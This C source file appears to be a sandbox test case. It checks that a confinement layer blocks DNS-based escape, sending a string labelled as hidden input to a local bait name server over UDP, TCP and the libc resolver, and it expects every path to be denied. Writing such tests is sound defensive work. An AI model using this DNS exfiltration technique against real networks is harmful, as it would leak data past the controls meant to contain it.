/* Case: C052 net-dns
 * Attacks: no-network
 * Run: udp => denied socket
 * Run: tcp => denied socket
 * Run: libc => denied socket
 * Undefended: through
 * Undefended: tcp => reached
 * Undefended: libc => reached
 * Control: looks nothing up
 *
 * A name server is the way out that many networks forget. The bait answers on 127.0.0.1, UDP port 53. */
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netinet/in.h>
#include <resolv.h>
#include <sys/socket.h>
#include <sys/time.h>

#include "attack.h"

int main(int argc, char **argv)
{
#ifdef CONTROL
	(void)argc, (void)argv;
	return fine();
#endif
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) };
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	const char *how = argc > 1 ? argv[1] : "udp";
	if (strcmp(how, "libc") == 0) {
		unsigned char answer[512];
		res_init();
		_res.nscount = 1, _res.retrans = 1, _res.retry = 1;
		_res.nsaddr_list[0] = to;
		MUST_FAIL(res_query("my.hidden.input.example.net", ns_c_in, ns_t_a, answer, sizeof answer));
		return HELD;
	}
	bool udp = strcmp(how, "udp") == 0;
	int fd = socket(AF_INET, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
	if (!udp) {
		MUST_FAIL(connect(fd, (struct sockaddr *)&to, sizeof to));
		return HELD;
	}
	char b[256] = "my.hidden.input.example.net";
	struct timeval wait = { 0, 500000 };
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
	sendto(fd, b, sizeof b, 0, (struct sockaddr *)&to, sizeof to);
	ssize_t n = recv(fd, b, sizeof b, 0);
	if (n > 0)
		GOT("%.*s", (int)n, b);
	return HELD;
}
